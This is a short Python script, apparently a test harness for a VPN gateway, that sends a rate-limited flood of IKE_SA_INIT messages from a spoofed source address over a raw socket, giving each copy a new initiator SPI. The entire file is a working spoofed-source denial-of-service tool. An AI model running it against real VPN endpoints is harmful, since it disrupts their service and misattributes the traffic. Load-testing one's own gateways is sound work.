#!/usr/bin/env python3
"""Sends copies of one IKE message with a spoofed source address, each with its own initiator
SPI: an IKE_SA_INIT flood as an internet host can send it "from" an AWS endpoint's address.

Standard library only; needs root (a raw socket, IP_HDRINCL). The message is read as hex from
TEMPLATE (cgw's netns_flood test writes one its engine made). With --marker, each datagram
starts with the four zero octets of IKE on the NAT-T port (RFC 3948).

usage: ike_flood.py SRC_IP SRC_PORT DST_IP DST_PORT COUNT RATE TEMPLATE [--marker]
Prints "sent N in T s".
"""

import os
import socket
import struct
import sys
import time


def main():
    src, sport, dst, dport, count, rate, template = sys.argv[1:8]
    marker = "--marker" in sys.argv[8:]
    sport, dport, count, rate = int(sport), int(dport), int(count), float(rate)
    with open(template) as f:
        message = bytearray(bytes.fromhex(f.read().strip()))
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    base = struct.unpack("!Q", os.urandom(8))[0]
    prefix = b"\0\0\0\0" if marker else b""
    src_b, dst_b = socket.inet_aton(src), socket.inet_aton(dst)
    start = time.monotonic()
    for i in range(count):
        message[0:8] = struct.pack("!Q", (base + i) & 0xFFFFFFFFFFFFFFFF)
        payload = prefix + bytes(message)
        udp = struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload
        # The kernel fills in the IP checksum (and the ID, being zero) for IP_HDRINCL.
        ip = struct.pack(
            "!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0, src_b, dst_b
        )
        s.sendto(ip + udp, (dst, 0))
        if i % 20 == 19:
            ahead = start + (i + 1) / rate - time.monotonic()
            if ahead > 0:
                time.sleep(ahead)
    print("sent %d in %.2f s" % (count, time.monotonic() - start), flush=True)


if __name__ == "__main__":
    main()
